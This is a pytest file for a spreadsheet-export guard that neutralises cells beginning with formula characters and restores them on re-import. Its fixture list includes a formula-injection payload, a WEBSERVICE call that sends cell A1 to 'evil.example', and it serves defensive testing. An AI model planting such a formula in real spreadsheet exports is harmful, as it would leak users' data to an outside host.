"""The spreadsheet formula guard every export uses: inert in Excel, exact on re-import."""

from __future__ import annotations

import pytest

from gis.export_guard import FORMULA_LEADS, neutralise, neutralise_row, restore

DANGEROUS = [
    "=1+1",
    '=WEBSERVICE("http://evil.example/?"&A1)',
    "+86 138 1234 5678",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_formula_leading_text_gets_an_apostrophe_and_comes_back_unchanged(text):
    guarded = neutralise(text)
    assert guarded == "'" + text
    assert guarded[0] not in FORMULA_LEADS
    assert restore(guarded) == text


@pytest.mark.parametrize(
    "value", ["张三", "湖北省宜昌市", "13812345678", "0717-1234567", "", "'quoted", "a=b", -5, 3.5]
)
def test_ordinary_text_and_numbers_are_left_alone(value):
    assert neutralise(value) == value
    assert restore(value) == value


@pytest.mark.parametrize("text", ["'=1+1", "''=1+1", "'+86"])
def test_text_that_already_starts_with_an_apostrophe_still_round_trips(text):
    guarded = neutralise(text)
    assert guarded.lstrip("'")[0] in FORMULA_LEADS and guarded != text
    assert restore(guarded) == text


def test_a_row_keeps_numbers_as_numbers_and_guards_only_text():
    assert neutralise_row(["=1+1", -5, None, "张三"]) == ["'=1+1", -5, None, "张三"]
